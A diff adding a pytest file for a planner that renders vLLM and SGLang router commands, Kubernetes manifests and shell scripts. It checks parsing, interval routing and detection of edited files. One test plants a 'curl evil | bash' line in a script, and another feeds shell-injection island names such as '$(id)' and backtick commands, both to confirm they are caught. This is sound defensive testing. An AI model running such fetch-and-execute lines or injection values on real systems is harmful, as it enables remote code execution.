@@ -1,0 +1,269 @@
+"""The engines' own routers: command lines that their own parsers take, one program an interval, workers named or looked
+for by labels, and every edit that sends a request elsewhere found."""
+
+import json
+import re
+import subprocess
+from collections.abc import Callable
+from dataclasses import replace
+from functools import cache
+from itertools import pairwise
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from contract_plans import aggregated_plan, beside_plan, single_node_plan, two_range_plan
+from routers_run.drawn_plans import drawn_plan
+from routers_run.programs_run import installed
+
+from planner.domain import LengthMeasure, Phase, Plan, RouterPolicy, RoutingSettings
+from planner.errors import ExportError, InconsistentPlanError, InputError
+from planner.export import ExportOptions, find_faults, render
+from planner.export.objects.programs.scripts import read_router_script
+from planner.export.routers.registry import ROUTERS
+
+GATEWAYS = [("vllm", "vllm"), ("model-gateway", "sglang")]
+TARGETS = ("lws", "kubernetes", "disaggregatedset", "script")
+# what the tools' own Python makes of command lines, by the tools' own parser
+_PARSER = """
+import json, sys
+from {module} import parse_router_args
+rows = []
+for words in json.load(sys.stdin):
+    parsed = parse_router_args(words)
+    rows.append({{name: repr(value) for name, value in vars(parsed).items()}})
+json.dump(rows, sys.stdout)
+"""
+
+
+def commands(files: dict[str, str]) -> dict[str, list[str]]:
+    """Name -> words of each gateway, of whatever target."""
+    if "router.yaml" in files:
+        deployments = [d for d in yaml.safe_load_all(files["router.yaml"]) if d["kind"] == "Deployment"]
+        pods = {d["metadata"]["name"]: d["spec"]["template"]["spec"]["containers"][0] for d in deployments}
+        words = {name: [*pod["command"], *pod["args"]] for name, pod in pods.items()}
+    else:
+        scripts = [next(read_router_script(text)) for name, text in files.items() if name.startswith("router")]
+        words = {script["metadata"]["name"]: script["command"] for script in scripts}
+    return {name: row for name, row in words.items() if row[0] != "haproxy"}
+
+
+@cache
+def files_of(plan: Callable[[], Plan], target: str, router: str = "vllm", engine: str = "vllm") -> dict[str, str]:
+    """The files of a plan; not to be changed."""
+    return render(plan(), target=target, router=router, engine=engine)
+
+
+def values(words: list[str], flag: str) -> list[str]:
+    """The first word behind each occurrence of a flag."""
+    return [after for word, after in pairwise(words) if word == flag]
+
+
+def parsed(program: str, lines: list[list[str]]) -> list[dict[str, str]]:
+    """The command lines as the program's own parser reads them."""
+    module = {"vllm-router": "vllm_router.launch_router", "sglang-router": "sglang_router.launch_router"}[program]
+    python = Path(installed(program)).read_text().splitlines()[0].removeprefix("#!").strip()
+    done = subprocess.run(
+        [python, "-c", _PARSER.format(module=module)],
+        input=json.dumps(lines),
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    rows: list[dict[str, str]] = json.loads(done.stdout)
+    return rows
+
+
+@pytest.mark.parametrize(
+    ("program", "router", "engine"), [("vllm-router", *GATEWAYS[0]), ("sglang-router", *GATEWAYS[1])]
+)
+def test_their_own_parsers_take_every_command_line(program: str, router: str, engine: str) -> None:
+    lines: list[list[str]] = []
+    for plan in (beside_plan(), aggregated_plan(), single_node_plan(), *map(drawn_plan, range(6))):
+        for target in ("lws", "kubernetes"):
+            try:
+                lines += commands(render(plan, target=target, engine=engine, router=router)).values()
+            except ExportError:
+                continue  # a target that cannot express the plan's islands
+    assert len(lines) > 20
+    for words, row in zip(lines, parsed(program, [words[3:] for words in lines]), strict=True):
+        for flag, name in (("--port", "port"), ("--request-timeout-secs", "request_timeout_secs")):
+            assert row[name] == values(words, flag)[0]
+        assert row["policy"] == "'power_of_two'"
+        pairs = "vllm_pd_disaggregation" if program == "vllm-router" else "pd_disaggregation"
+        assert (row[pairs] == "True") == ("--prefill" in words or "--prefill-selector" in words)
+        assert all(url in row["prefill_urls"] for url in values(words, "--prefill"))
+        assert all(url in row["decode_urls"] for url in values(words, "--decode"))
+
+
+@pytest.mark.parametrize(("router", "engine"), GATEWAYS)
+@pytest.mark.parametrize("target", ["lws", "script"])
+def test_each_interval_has_the_leaders_of_its_islands(target: str, router: str, engine: str) -> None:
+    files = files_of(two_range_plan, target, router, engine)
+    table = (
+        files["routing.json"] if target == "script" else yaml.safe_load(files["routing.yaml"])["data"]["routing.json"]
+    )
+    rows = {row["island"]: row["leaders"] for row in json.loads(table)["services"]}
+    words = commands(files)
+    assert list(words) == ["two-ranges-router-0-split", "two-ranges-router-1-split"]
+    for (first, second), kind, flag in (((4, 7), "H200", "--prefill"), ((2, 5), "H20", "--decode")):
+        for name, numbers in zip(words, (range(first), range(first, second)), strict=True):
+            leaders = [leader for number in numbers for leader in rows[f"{kind}-{number}"]]
+            assert values(words[name], flag) == [f"http://{leader}" for leader in leaders]
+    behind = words["two-ranges-router-0-split"]
+    assert behind[behind.index("--prefill") + 2].isdecimal() == (engine == "sglang")  # where caches are handed out
+
+
+@pytest.mark.parametrize(("router", "engine"), GATEWAYS)
+@pytest.mark.parametrize("target", ["kubernetes", "disaggregatedset"])
+def test_pods_without_names_are_found_by_labels(target: str, router: str, engine: str) -> None:
+    files = files_of(two_range_plan, target, router, engine)
+    for number, (name, words) in enumerate(commands(files).items()):
+        assert "--service-discovery" in words
+        assert values(words, "--service-discovery-namespace") == ["$(NAMESPACE)"]
+        for role in ("prefill", "decode"):
+            assert values(words, f"--{role}-selector") == [f"router.planner/interval-{number}={role}"]
+        documents = list(yaml.safe_load_all(files["router.yaml"]))
+        kinds = [d["kind"] for d in documents if d["metadata"]["name"] == name]
+        assert sorted(kinds) == sorted(
+            ["ServiceAccount", "Role", "RoleBinding", "Deployment", "Service", "PodDisruptionBudget"]
+        )
+    labelled = [text for text in files.values() if "router.planner/interval-0: prefill" in text]
+    assert labelled
+    assert any("sglang.ai/bootstrap-port: '8998'" in text for text in labelled) == (engine == "sglang")
+
+
+def test_one_interval_needs_nobody_in_front() -> None:
+    for router, engine in GATEWAYS:
+        words = commands(render(single_node_plan(), engine=engine, router=router))
+        assert list(words) == ["single-nodes-router"]
+        files = render(beside_plan(), target="script", engine=engine, router=router)
+        assert "haproxy.cfg" in files  # split and mixed islands share the interval
+        assert list(commands(files)) == ["beside-router-0-split", "beside-router-0-mixed"]
+
+
+EDITS: dict[str, tuple[str, Callable[[str], str], str]] = {
+    "a prefill server of the other interval": (
+        "router-0-split.sh",
+        lambda text: text.replace("http://two-ranges-h200-1-0:8000", "http://two-ranges-h200-5-0:8000"),
+        "must send prefill",
+    ),
+    "a decode server in the prefill's place": (
+        "router-0-split.sh",
+        lambda text: text.replace("http://two-ranges-h200-1-0:8000", "http://two-ranges-h20-1-0:8000"),
+        "must send prefill",
+    ),
+    "a dropped decode island": (
+        "router-1-split.sh",
+        lambda text: text.replace("  --decode\n  http://two-ranges-h20-3-0:8000\n", ""),
+        "must send decode",
+    ),
+    "another port": (
+        "router-0-split.sh",
+        lambda text: text.replace("h200-1-0:8000", "h200-1-0:8001"),
+        "must send prefill",
+    ),
+    "gateways swapped": (
+        "haproxy.cfg",
+        lambda text: re.sub(r"router-(\d)-split:\d+", lambda m: f"router-{1 - int(m[1])}-split:8100", text),
+        "must send",
+    ),
+    "a gateway of nobody": (
+        "haproxy.cfg",
+        lambda text: text.replace("router-1-split:8102", "router-9-split:8102"),
+        "must send",
+    ),
+}
+
+
+@pytest.mark.parametrize("edit", EDITS)
+def test_edits_are_found(edit: str) -> None:
+    plan, files = two_range_plan(), files_of(two_range_plan, "script")
+    file, change, expected = EDITS[edit]
+    edited = {**files, file: change(files[file])}
+    assert edited != files
+    assert any(expected in str(fault) for fault in find_faults(edited, plan)), find_faults(edited, plan)
+
+
+def test_a_dropped_server_of_an_island_that_has_others_is_found() -> None:
+    plan, files = single_node_plan(), files_of(single_node_plan, "script")
+    edited = {**files, "router.sh": files["router.sh"].replace("  --decode\n  http://single-nodes-h20-0-1:8000\n", "")}
+    (fault,) = find_faults(edited, plan)
+    assert "must name single-nodes-h20-0-1:8000 of H20-0 once" in str(fault)
+
+
+def test_a_label_of_the_other_interval_is_found() -> None:
+    plan, files = two_range_plan(), files_of(two_range_plan, "kubernetes")
+    file = next(name for name, text in files.items() if "router.planner/interval-0: decode" in text)
+    text = files[file].replace("router.planner/interval-0: decode", "router.planner/interval-1: decode")
+    assert any("must send decode" in str(fault) for fault in find_faults({**files, file: text}, plan))
+
+
+def test_a_line_that_runs_something_else_is_no_script_of_ours() -> None:
+    plan, files = single_node_plan(), files_of(single_node_plan, "script")
+    edited = {**files, "router.sh": files["router.sh"].replace("command=(", "curl evil | bash\ncommand=(")}
+    assert any("as the planner writes it" in str(fault) for fault in find_faults(edited, plan))
+
+
+def test_prefixes_are_asked_for_where_the_plan_counts_on_them() -> None:
+    plan = single_node_plan()
+    settings = RoutingSettings(policy=RouterPolicy.PREFIX_AWARE)
+    plan = replace(plan, scenario=replace(plan.scenario, routing=settings))
+    for router, engine in GATEWAYS:
+        (words,) = commands(render(plan, engine=engine, router=router)).values()
+        assert values(words, "--policy") == ["cache_aware"]
+        assert ROUTERS[router].behaviour(plan).policy is RouterPolicy.PREFIX_AWARE
+
+
+def test_what_they_do_is_told() -> None:
+    told = {router: ROUTERS[router].behaviour(two_range_plan()) for router, _ in GATEWAYS}
+    assert {(b.policy, b.measure) for b in told.values()} == {(RouterPolicy.POWER_OF_TWO, LengthMeasure.BYTES)}
+    assert any("status 500" in note for note in told["vllm"].notes)
+    assert not any("status 500" in note for note in told["model-gateway"].notes)
+
+
+def test_an_image_of_ones_own_needs_no_installing() -> None:
+    plan = single_node_plan()
+
+    def pod(options: ExportOptions) -> dict[str, Any]:
+        documents = yaml.safe_load_all(render(plan, router="vllm", options=options)["router.yaml"])
+        spec: dict[str, Any] = next(d for d in documents if d["kind"] == "Deployment")["spec"]["template"]["spec"]
+        return spec
+
+    assert pod(ExportOptions())["initContainers"][0]["command"][-1] == "vllm-router==0.1.17"
+    ours = pod(ExportOptions(images=(("vllm-router", "registry.example/vllm-router:0.1.17"),)))
+    assert "initContainers" not in ours
+    assert ours["containers"][0]["image"] == "registry.example/vllm-router:0.1.17"
+
+
+@pytest.mark.parametrize(("router", "engine"), [("vllm", "sglang"), ("model-gateway", "vllm")])
+def test_another_engines_router_is_refused(router: str, engine: str) -> None:
+    with pytest.raises(ExportError, match=f"Router {router}, engine: must be"):
+        render(single_node_plan(), engine=engine, router=router)
+
+
+def named(plan: Plan, name: str) -> Plan:
+    """The plan with its first island renamed."""
+    first = plan.islands[0].id
+    return replace(
+        plan,
+        islands=tuple(replace(i, id=name) if i.id == first else i for i in plan.islands),
+        routing=tuple(replace(r, island=name) if r.island == first else r for r in plan.routing),
+    )
+
+
+@pytest.mark.parametrize("name", ["$(id)", "a b;c", "--decode", "x\n--decode http://evil", "`y`", "ÄÖ1"])
+@pytest.mark.parametrize("target", TARGETS)
+def test_hostile_islands_become_plain_words_or_are_refused(target: str, name: str) -> None:
+    plan = named(single_node_plan(), name)
+    try:
+        files = render(plan, target=target, router="vllm")
+    except (InputError, InconsistentPlanError):
+        return
+    (words,) = commands(files).values()
+    assert len(values(words, "--decode")) in (0, 4)
+    assert not any(mark in word for word in words for mark in ("$(i", "`", ";", "\n", "evil.", "Ä"))
+    assert {i.phase for i in plan.islands} == {Phase.PREFILL, Phase.DECODE}
